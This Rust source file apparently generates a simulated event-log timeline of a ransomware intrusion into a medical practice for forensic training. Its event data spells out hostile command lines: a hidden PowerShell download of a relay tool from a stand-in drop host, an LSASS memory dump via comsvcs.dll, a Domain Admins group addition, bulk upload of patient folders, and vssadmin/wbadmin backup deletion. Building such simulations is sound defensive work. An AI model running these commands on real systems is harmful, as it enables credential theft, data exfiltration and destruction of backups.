//! The attack, in order of time; the clock is the practice's. Each step stands in `docs/demo.md` or leads from one to the next.

use crate::{
    Planned,
    events::{self, Process, Who, eastern},
    hosts::{ASC1, BILL2, BKP1, DC1, FILE1, HOSTS, Host},
};

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const EXPLORER: &str = "C:\\Windows\\explorer.exe";
const RELAY: &str = "C:\\ProgramData\\ra\\relay.exe";
const UPLOADER: &str = "C:\\ProgramData\\upd\\svcmon.exe";
const LOCKER: &str = "C:\\ProgramData\\upd\\hl.exe";
const LSASS: &str = "C:\\Windows\\System32\\lsass.exe";
/// What the VPN gave the contractor's session.
const TUNNEL: &str = "10.20.9.14";
const DROP: &str = "198.51.100.23";

const CMD_SHA: &str = "b99d61d874728edc0918ca0eb10eab93d381e7367e377406e65963366c874450";
const RELAY_SHA: &str = "1a7e0c4495d26b3f80e1d94c27b85f60a3c9d2e4f5061728394a5b6c7d8e9f01";
const UPLOADER_SHA: &str = "9c3d5e7f10214365879ab0c1d2e3f405162738495a6b7c8d9e0fa1b2c3d4e5f6";
const LOCKER_SHA: &str = "5f2c1f4a0d9be37a6c44f1b7e8d05a9c3b6e7d8f90a1b2c3d4e5f60718293a4b";
const SYSTEM_SHA: &str = "3ad05f1e2c4b69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0";

/// The contractor's account at the billing computer, and at the file server.
const KESSLER_BILL: Who = Who::new("mkessler", 0x07d1_3a10);
const KESSLER_FILE: Who = Who::new("mkessler", 0x07dc_93bb);
const BACKUP_FILE: Who = Who::new("svc-backup", 0x0911_54c2);
const BACKUP_BKP: Who = Who::new("svc-backup", 0x0912_0d71);
const BACKUP_ASC: Who = Who::new("svc-backup", 0x0a01_77e4);
const BACKUP_DC: Who = Who::new("svc-backup", 0x0a03_5590);

const fn child(
    id: u32,
    image: &'static str,
    command: &'static str,
    sha256: &'static str,
    parent_id: u32,
) -> Process {
    Process { id, image, command, parent_id, parent: CMD, parent_command: "cmd.exe", sha256 }
}

/// A process as the Security log has it and, where it runs, Sysmon.
fn process(out: &mut Vec<Planned>, at: jiff::Timestamp, host: &'static Host, who: Who, process: Process) {
    out.push(events::created(at, host, who, process));
    if host.sysmon {
        out.push(events::process_seen(at, host, who, process));
    }
}

/// Every event of the attack.
pub(crate) fn attack() -> Vec<Planned> {
    let mut out = Vec::new();
    way_in(&mut out);
    credentials(&mut out);
    spread(&mut out);
    data(&mut out);
    impact(&mut out);
    false_alarm(&mut out);
    out
}

/// Friday night: from the VPN to the billing computer, and the remote management tool.
fn way_in(out: &mut Vec<Planned>) {
    out.push(events::logon(eastern(11, 22, 52, 14), &BILL2, KESSLER_BILL, 10, (TUNNEL, 50_844)));
    let shell = Process {
        id: 6120,
        image: POWERSHELL,
        command: "powershell.exe -NoP -W Hidden -Command \"Invoke-WebRequest https://files.drop-hollow.example/ra/relay.exe -OutFile C:\\ProgramData\\ra\\relay.exe\"",
        parent_id: 5012,
        parent: EXPLORER,
        parent_command: "C:\\Windows\\Explorer.EXE",
        sha256: SYSTEM_SHA,
    };
    process(out, eastern(11, 23, 6, 51), &BILL2, KESSLER_BILL, shell);
    out.push(events::script(
        eastern(11, 23, 6, 52),
        &BILL2,
        901,
        "Invoke-WebRequest https://files.drop-hollow.example/ra/relay.exe -OutFile C:\\ProgramData\\ra\\relay.exe",
        "",
    ));
    let from = (6120, POWERSHELL);
    out.push(events::looked_up(
        eastern(11, 23, 6, 53),
        &BILL2,
        KESSLER_BILL,
        from,
        "files.drop-hollow.example",
        DROP,
    ));
    out.push(events::connected(
        eastern(11, 23, 6, 54),
        &BILL2,
        KESSLER_BILL,
        from,
        (DROP, "files.drop-hollow.example", 443),
    ));
    out.push(events::file_created(eastern(11, 23, 6, 58), &BILL2, KESSLER_BILL, from, RELAY));
    let install = child(6344, RELAY, "C:\\ProgramData\\ra\\relay.exe --install --id 77-204", RELAY_SHA, 6120);
    let install = Process { parent: POWERSHELL, parent_command: "powershell.exe", ..install };
    process(out, eastern(11, 23, 10, 20), &BILL2, KESSLER_BILL, install);
    let path = "C:\\ProgramData\\ra\\relay.exe --svc --id 77-204";
    out.push(events::service_installed(eastern(11, 23, 10, 22), &BILL2, "RemoteAssist Relay", path));
    out.push(events::service_audited(
        eastern(11, 23, 10, 22),
        &BILL2,
        KESSLER_BILL,
        "RemoteAssist Relay",
        path,
    ));
    out.push(events::service_state(eastern(11, 23, 10, 23), &BILL2, "RemoteAssist Relay", true));
}

/// Saturday, half past one: credentials read from memory on the file server.
fn credentials(out: &mut Vec<Planned>) {
    out.push(events::logon(eastern(12, 1, 29, 50), &FILE1, KESSLER_FILE, 10, (BILL2.ip, 62_197)));
    let dump = "rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\l.dmp full";
    let image = "C:\\Windows\\System32\\rundll32.exe";
    process(out, eastern(12, 1, 32, 41), &FILE1, KESSLER_FILE, child(1896, image, dump, SYSTEM_SHA, 4271));
    out.push(events::process_opened(
        eastern(12, 1, 32, 41),
        &FILE1,
        KESSLER_FILE,
        (1896, image),
        LSASS,
        0x001f_ffff,
    ));
    out.push(events::file_created(
        eastern(12, 1, 32, 43),
        &FILE1,
        KESSLER_FILE,
        (1896, image),
        "C:\\Windows\\Temp\\l.dmp",
    ));
}

/// Saturday night to Sunday: with the backup's account to the backup server, the record server and the domain.
fn spread(out: &mut Vec<Planned>) {
    out.push(events::logon(eastern(12, 22, 47, 33), &FILE1, BACKUP_FILE, 10, (BILL2.ip, 62_440)));
    out.push(events::logon(eastern(12, 22, 51, 8), &BKP1, BACKUP_BKP, 10, (FILE1.ip, 49_731)));
    let forget = child(
        3380,
        "C:\\Windows\\System32\\cmdkey.exe",
        "cmdkey.exe /delete:offsite-vault.example",
        SYSTEM_SHA,
        3312,
    );
    process(out, eastern(12, 22, 58, 2), &BKP1, BACKUP_BKP, forget);
    out.push(events::logon(eastern(13, 2, 14, 9), &ASC1, BACKUP_ASC, 10, (FILE1.ip, 49_822)));
    out.push(events::audit_policy(
        eastern(13, 2, 15, 30),
        &ASC1,
        BACKUP_ASC,
        (0x0cce_9244_69ae_11d9_bed3_5050_5450_3030, "%%12811"),
        "%%8448",
    ));
    out.push(events::file_created(eastern(13, 2, 16, 4), &ASC1, BACKUP_ASC, (2210, EXPLORER), UPLOADER));
    out.push(events::service_audited(eastern(13, 2, 16, 40), &ASC1, BACKUP_ASC, "updmon", UPLOADER));
    out.push(events::service_installed(eastern(13, 2, 16, 40), &ASC1, "updmon", UPLOADER));
    let net = "C:\\Windows\\System32\\net.exe";
    let command = "net.exe group \"Domain Admins\" svc-backup /add /domain";
    process(out, eastern(13, 2, 24, 18), &FILE1, BACKUP_FILE, child(5220, net, command, SYSTEM_SHA, 4300));
    // It stood in the domain controller's log until that was cleared.
    out.push(events::member_added(eastern(13, 2, 24, 19), &DC1, BACKUP_FILE, "Domain Admins"));
    out.push(events::task_registered(eastern(13, 2, 31, 5), &FILE1, BACKUP_FILE, "\\Updmon"));
    out.push(events::task_audited(
        eastern(13, 2, 31, 5),
        &FILE1,
        BACKUP_FILE,
        "\\Updmon",
        UPLOADER,
        "rcd --rc-no-auth",
    ));
}

/// Sunday, three in the morning: the patients' files leave.
fn data(out: &mut Vec<Planned>) {
    let list =
        child(5310, CMD, "cmd.exe /c dir F:\\Patients /s /b > C:\\ProgramData\\upd\\f.txt", CMD_SHA, 4300);
    process(out, eastern(13, 2, 57, 20), &FILE1, BACKUP_FILE, list);
    out.push(events::file_created(
        eastern(13, 2, 57, 21),
        &FILE1,
        BACKUP_FILE,
        (5310, CMD),
        "C:\\ProgramData\\upd\\f.txt",
    ));
    let copy = child(
        1497,
        UPLOADER,
        "svcmon.exe copy F:\\Patients remote:ch --transfers 16 --no-check-certificate",
        UPLOADER_SHA,
        4300,
    );
    process(out, eastern(13, 3, 4, 58), &FILE1, BACKUP_FILE, copy);
    let from = (1497, UPLOADER);
    out.push(events::looked_up(
        eastern(13, 3, 5, 40),
        &FILE1,
        BACKUP_FILE,
        from,
        "files.drop-hollow.example",
        DROP,
    ));
    out.push(events::connected(
        eastern(13, 3, 5, 44),
        &FILE1,
        BACKUP_FILE,
        from,
        (DROP, "files.drop-hollow.example", 443),
    ));
}

/// Monday, before the practice opens.
fn impact(out: &mut Vec<Planned>) {
    out.push(events::logon(eastern(14, 6, 48, 30), &DC1, BACKUP_DC, 10, (FILE1.ip, 49_902)));
    out.push(events::cleared(eastern(14, 6, 49, 55), &DC1, BACKUP_DC));
    let shadows = "vssadmin.exe delete shadows /all /quiet";
    let vssadmin = "C:\\Windows\\System32\\vssadmin.exe";
    process(
        out,
        eastern(14, 6, 51, 10),
        &FILE1,
        BACKUP_FILE,
        child(2363, vssadmin, shadows, SYSTEM_SHA, 4300),
    );
    let wbadmin = "C:\\Windows\\System32\\wbadmin.exe";
    process(
        out,
        eastern(14, 6, 51, 31),
        &FILE1,
        BACKUP_FILE,
        child(5006, wbadmin, "wbadmin.exe delete catalog -quiet", SYSTEM_SHA, 4300),
    );
    process(out, eastern(14, 6, 52, 20), &ASC1, BACKUP_ASC, child(5706, vssadmin, shadows, SYSTEM_SHA, 3872));
    process(
        out,
        eastern(14, 6, 58, 12),
        &FILE1,
        BACKUP_FILE,
        child(2316, LOCKER, "C:\\ProgramData\\upd\\hl.exe -all -net", LOCKER_SHA, 4300),
    );
    process(
        out,
        eastern(14, 6, 59, 3),
        &ASC1,
        BACKUP_ASC,
        child(8885, LOCKER, "C:\\ProgramData\\upd\\hl.exe -all", LOCKER_SHA, 3872),
    );
    locked(out, &FILE1, BACKUP_FILE, 2316, FILE_SERVER, (14, 6, 58, 14));
    locked(out, &ASC1, BACKUP_ASC, 8885, RECORD_SERVER, (14, 6, 59, 5));
}

static FILE_SERVER: [&str; 6] = [
    "F:\\Patients\\A\\letters-2026",
    "F:\\Patients\\M\\operative-notes",
    "F:\\Billing\\claims-aging",
    "F:\\Audiology\\audiograms",
    "F:\\Scans\\inbox",
    "F:\\Office\\minutes",
];
static RECORD_SERVER: [&str; 4] = [
    "D:\\Record\\db\\asc-main",
    "D:\\Record\\images\\anesthesia",
    "D:\\Record\\export\\daily",
    "D:\\Record\\templates\\consents",
];

/// Files get their new names, four a second for two minutes, and a note in each folder.
fn locked<const N: usize>(
    out: &mut Vec<Planned>,
    host: &'static Host,
    who: Who,
    id: u32,
    folders: [&str; N],
    (day, hour, minute, second): (i64, i64, i64, i64),
) {
    let process = (id, LOCKER);
    let start = eastern(day, hour, minute, second);
    let after = |quarters: i64| {
        jiff::Timestamp::from_microsecond(start.as_microsecond() + quarters * 250_000).unwrap_or(start)
    };
    for (number, folder) in folders.iter().cycle().take(480).enumerate() {
        let quarters = i64::try_from(number).unwrap_or(0);
        let path = format!("{folder}\\{:04}.pdf.hollow", 1000 + number);
        out.push(events::file_created(after(quarters), host, who, process, &path));
        if number < N {
            let note = format!("{folder}\\HOLLOW-README.txt");
            out.push(events::file_created(after(quarters), host, who, process, &note));
        }
    }
}

/// Sunday, 21:14: what the endpoint tool takes for an attack and is the patch window's script, on every workstation.
fn false_alarm(out: &mut Vec<Planned>) {
    let encoded = Process {
        id: 7716,
        image: POWERSHELL,
        command: "powershell.exe -NoProfile -EncodedCommand RwBlAHQALQBIAG8AdABGAGkAeAA=",
        parent_id: 1684,
        parent: "C:\\Windows\\System32\\svchost.exe",
        parent_command: "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
        sha256: SYSTEM_SHA,
    };
    let patch = Who::new("svc-patch", 0x0a44_1200);
    for host in HOSTS.iter().filter(|host| !host.server) {
        process(out, eastern(13, 21, 14, 0), host, patch, encoded);
        let action = "powershell.exe";
        out.push(events::task_ran(eastern(13, 21, 14, 0), host, "\\Keystone\\Patch inventory", action));
        out.push(events::script(eastern(13, 21, 14, 1), host, 77, "Get-HotFix", ""));
        out.push(events::logon(eastern(13, 21, 13, 58), host, patch, 5, ("-", 0)));
    }
    out.push(events::service_state(eastern(13, 21, 20, 0), &FILE1, "Windows Modules Installer", true));
}
